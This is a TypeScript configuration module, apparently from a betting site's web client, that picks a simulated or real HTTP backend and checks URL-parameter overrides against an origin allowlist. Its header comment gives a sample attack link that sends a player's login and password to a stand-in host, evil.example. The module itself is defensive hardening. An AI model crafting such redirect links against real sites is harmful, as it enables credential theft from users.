/**
 * Which transport runs, and where it points. Configuration only, never a code change.
 *
 * Build time (Vite env, e.g. `VITE_TRANSPORT=http npm run build`):
 *   VITE_TRANSPORT       'sim' (default) or 'http'
 *   VITE_API_URL         base URL of the real API, e.g. https://api.operator.example (http mode); empty
 *                        for the page's own origin (an API that serves the build itself)
 *   VITE_PUSHER_KEY      Pusher application key (http mode)
 *   VITE_PUSHER_CLUSTER  Pusher cluster, default 'mt1' (http mode)
 *   VITE_PUSHER_HOST     optional own broadcaster host (e.g. a Soketi/Reverb server) (http mode)
 *   VITE_PUSHER_PORT     optional port of that host (http mode)
 *   VITE_PUSHER_TLS      'false' connects with ws:// (a host without TLS, like `npm run serve`); default true,
 *                        wss:// (http mode)
 *   VITE_TRADING_PUSHER_KEY      application key of the trading server, a second Pusher app carrying prices
 *                                and public trades (http mode); without it the build has no trading server
 *   VITE_TRADING_PUSHER_CLUSTER  its cluster, default VITE_PUSHER_CLUSTER's (http mode)
 *   VITE_TRADING_PUSHER_HOST     optional own host of the trading server (http mode)
 *   VITE_TRADING_PUSHER_PORT     optional port of that host (http mode)
 *   VITE_TRADING_PUSHER_TLS      'false' for ws://; default VITE_PUSHER_TLS's (http mode)
 *   VITE_QA_HOST         '1': the API is the harness's own Node host started with --qa (`npm run serve -- --qa`);
 *                        the page gets the QA handle over its /__sim routes (demo panel, simulated transfers,
 *                        the emulated provider frames). Never set in an operator's build; no link sets it
 *                        (http mode)
 *   VITE_EXPLORER_SOLANA_RPC       Solana JSON-RPC endpoint the deposit tab polls for new deposits (http mode)
 *   VITE_EXPLORER_ETHERSCAN_API    Etherscan-compatible API for Ethereum and token deposits (http mode), with
 *   VITE_EXPLORER_ETHERSCAN_KEY    its API key; without them the deposit tab does not poll that chain
 *   VITE_SIM_SEED        world seed of the simulated backend, default 'demo' (sim mode)
 *   VITE_SIM_CLOCK_RATE  sim clock speed, 1 = real time (sim mode)
 *   VITE_SIM_WORLD       'off' starts the world without its simulated crowd (sim mode)
 *   VITE_ALLOW_TRANSPORT_OVERRIDE    '1' lets a link point this build at another real API (off by default)
 *   VITE_TRANSPORT_OVERRIDE_ORIGINS  the origins such a link may name, comma-separated, e.g.
 *                                    'https://staging-api.operator.example,wss://ws.staging.operator.example:6001'
 *
 * Run time (query parameters, remembered for the tab in sessionStorage so navigation keeps them):
 *   ?transport=sim[&seed=abc][&clock=60][&world=off]   sim builds only, always allowed: the world is fake
 *                                                      and stays in the browser.
 *   ?transport=http&api=<origin>[&key=…&cluster=…&host=…&port=…]
 *        only in a build with VITE_ALLOW_TRANSPORT_OVERRIDE=1, and only when the API's origin and the
 *        broadcaster's socket origin (wss://host:port, or Pusher's ws-<cluster>.pusher.com) are the build's
 *        own or on VITE_TRANSPORT_OVERRIDE_ORIGINS (compared as parsed origins: scheme, host and port).
 *   ?transport=reset  forgets the override.
 *
 * A link never names a trading server: an override keeps the build's (like its block explorers).
 *
 * Why so strict: a link is all an attacker needs. Without these rules `?transport=http&api=https://evil.example`
 * sent the next login (name and password) to evil.example, and `?transport=sim` turned a player's tab into
 * the simulator with fake balances. So an HTTP build never switches to the sim by link (the sim build exists
 * for that), and a sim build, often a public demo on the operator's domain, follows the same allowlist before
 * it sends anything to a network. A remembered override that the build no longer allows is dropped.
 */
import { acceptHttpOverride, type OverridePolicy, overridePolicy } from './override-policy';

export interface SimConfig {
  kind: 'sim';
  seed: string;
  clockRate: number;
  /** Whether the simulated crowd lives in this world (bets, chat, tips, quizzes); false for a quiet world. */
  world: boolean;
  /** True when a run-time override chose this configuration, not the build. */
  overridden?: boolean;
}

/**
 * The block explorers the deposit tab polls for new transactions to the player's address (platform.md §7). Set
 * at build time only: no link may point a player's browser at another explorer.
 */
export interface DepositExplorers {
  /** A Solana JSON-RPC endpoint (getSignaturesForAddress). */
  solanaRpc: string | null;
  /** An Etherscan-compatible API (txlist and tokentx) for Ethereum and its tokens. */
  etherscan: { url: string; apiKey: string } | null;
}

/** A Pusher app the client connects to: Pusher's own cluster, or an own broadcaster's host and port. */
export interface PusherApp {
  key: string;
  cluster: string;
  host: string | null;
  port: number | null;
  /** wss:// (true, the default when absent) or ws:// (false). */
  tls?: boolean;
}

export interface HttpConfig {
  kind: 'http';
  apiUrl: string;
  pusherKey: string;
  pusherCluster: string;
  pusherHost: string | null;
  pusherPort: number | null;
  /** wss:// (true, the default when absent) or ws:// (false, a broadcaster without TLS). */
  pusherTls?: boolean;
  /** Absent (test doubles, hand-made configs): no explorer is polled. */
  explorers?: DepositExplorers;
  /** The trading server (prices, public trades); null or absent when the build has none. */
  trading?: PusherApp | null;
  /** The API is the harness's Node host in QA mode (VITE_QA_HOST): the page gets its QA handle. Build only. */
  qaHost?: boolean;
  /** True when a run-time override chose this configuration, not the build. */
  overridden?: boolean;
}

export type TransportConfig = SimConfig | HttpConfig;

type Env = Record<string, string | undefined>;

const OVERRIDE_KEY = 'betkings:transport-override';
const OVERRIDE_PARAMS = [
  'transport',
  'api',
  'key',
  'cluster',
  'host',
  'port',
  'seed',
  'clock',
  'world',
] as const;
export type Overrides = Partial<Record<(typeof OVERRIDE_PARAMS)[number], string>>;

/** A flag that is on unless written as false (or 0, no, off). */
const flag = (value: string | undefined, fallback: boolean) => {
  const text = value?.trim().toLowerCase();
  if (!text) return fallback;
  return !['false', '0', 'no', 'off'].includes(text);
};

const positive = (value: string | undefined, fallback: number) => {
  const number = Number(value);
  return Number.isFinite(number) && number > 0 ? number : fallback;
};

/** What the build alone says. */
function buildConfig(env: Env): TransportConfig {
  if (env.VITE_TRANSPORT?.trim().toLowerCase() === 'http') {
    const pusherCluster = env.VITE_PUSHER_CLUSTER ?? 'mt1';
    const pusherTls = flag(env.VITE_PUSHER_TLS, true);
    return {
      kind: 'http',
      apiUrl: (env.VITE_API_URL ?? '').replace(/\/$/, ''),
      pusherKey: env.VITE_PUSHER_KEY ?? '',
      pusherCluster,
      pusherHost: env.VITE_PUSHER_HOST || null,
      pusherPort: env.VITE_PUSHER_PORT ? positive(env.VITE_PUSHER_PORT, 443) : null,
      pusherTls,
      trading: env.VITE_TRADING_PUSHER_KEY
        ? {
            key: env.VITE_TRADING_PUSHER_KEY,
            cluster: env.VITE_TRADING_PUSHER_CLUSTER || pusherCluster,
            host: env.VITE_TRADING_PUSHER_HOST || null,
            port: env.VITE_TRADING_PUSHER_PORT ? positive(env.VITE_TRADING_PUSHER_PORT, 443) : null,
            tls: flag(env.VITE_TRADING_PUSHER_TLS, pusherTls),
          }
        : null,
      qaHost: flag(env.VITE_QA_HOST, false),
      explorers: {
        solanaRpc: env.VITE_EXPLORER_SOLANA_RPC || null,
        etherscan: env.VITE_EXPLORER_ETHERSCAN_API
          ? { url: env.VITE_EXPLORER_ETHERSCAN_API, apiKey: env.VITE_EXPLORER_ETHERSCAN_KEY ?? '' }
          : null,
      },
    };
  }
  return {
    kind: 'sim',
    seed: env.VITE_SIM_SEED || 'demo',
    clockRate: positive(env.VITE_SIM_CLOCK_RATE, 1),
    world: (env.VITE_SIM_WORLD ?? 'on').toLowerCase() !== 'off',
  };
}

/** The configuration an override asks for, or null when this build does not allow it. */
function applyOverride(
  build: TransportConfig,
  overrides: Overrides,
  policy: OverridePolicy,
): TransportConfig | null {
  if (overrides.transport === 'sim') {
    if (build.kind !== 'sim') return null;
    return {
      kind: 'sim',
      seed: overrides.seed || build.seed,
      clockRate: positive(overrides.clock, build.clockRate),
      world: overrides.world ? overrides.world.toLowerCase() !== 'off' : build.world,
      overridden: true,
    };
  }
  if (overrides.transport === 'http') return acceptHttpOverride(build, overrides, policy);
  return null;
}

function parseStored(raw: string | null): Overrides | null {
  if (!raw) return null;
  try {
    const parsed: unknown = JSON.parse(raw);
    return typeof parsed === 'object' && parsed !== null ? (parsed as Overrides) : null;
  } catch {
    return null;
  }
}

function ignored(overrides: Overrides, where: string): void {
  console.warn(`Ignored a transport override ${where} that this build does not allow`, overrides);
}

/** The accepted override of the link or, failing that, of the tab's storage; null for none. */
function resolveOverride(
  build: TransportConfig,
  search: string,
  storage: Storage | null,
  policy: OverridePolicy,
): TransportConfig | null {
  const params = new URLSearchParams(search);
  if (params.get('transport') === 'reset') {
    storage?.removeItem(OVERRIDE_KEY);
    return null;
  }
  const fromQuery: Overrides = {};
  for (const name of OVERRIDE_PARAMS) {
    const value = params.get(name);
    if (value) fromQuery[name] = value;
  }
  if (fromQuery.transport) {
    const accepted = applyOverride(build, fromQuery, policy);
    if (accepted) {
      storage?.setItem(OVERRIDE_KEY, JSON.stringify(fromQuery));
      return accepted;
    }
    ignored(fromQuery, 'in the link');
  }
  const stored = parseStored(storage?.getItem(OVERRIDE_KEY) ?? null);
  if (!stored) return null;
  const accepted = applyOverride(build, stored, policy);
  if (!accepted) {
    storage?.removeItem(OVERRIDE_KEY);
    ignored(stored, 'remembered by this tab');
  }
  return accepted;
}

/** Whether the configured backend has a trading server: the sim always, a real API when the build names one. */
export const hasTradingServer = (config: TransportConfig) => config.kind === 'sim' || Boolean(config.trading);

export function resolveTransportConfig(
  env: Env = import.meta.env as Env,
  location: { search: string } = globalThis.location ?? { search: '' },
  storage: Storage | null = globalThis.sessionStorage ?? null,
): TransportConfig {
  const build = buildConfig(env);
  return resolveOverride(build, location.search, storage, overridePolicy(env, build)) ?? build;
}
